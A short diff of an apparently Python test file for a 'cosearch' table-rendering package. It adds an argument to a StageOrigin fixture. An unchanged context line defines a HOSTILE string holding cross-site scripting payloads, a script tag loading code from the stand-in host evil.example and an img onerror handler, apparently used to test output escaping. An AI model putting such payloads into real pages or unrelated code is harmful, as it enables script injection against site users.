@@ -24,7 +24,9 @@ from cosearch.tables.behaviour import cost_table
 from cosearch.tables.main import main_table
 from cosearch.tables.panels import Panel
 
-STAGE = StageOrigin("evaluate@cosearch-0", {"a": {"b": 1}}, {"models/x": "0" * 64}, {"x.py": "1"})
+STAGE = StageOrigin(
+    "identity/x.json", "evaluate@cosearch-0", {"a": {"b": 1}}, {"models/x": "0" * 64}, {"x.py": "1"}
+)
 HOSTILE = "<script src=//evil.example/x.js></script><img src=x onerror=alert(1)> & $\\frac{$"
 
 
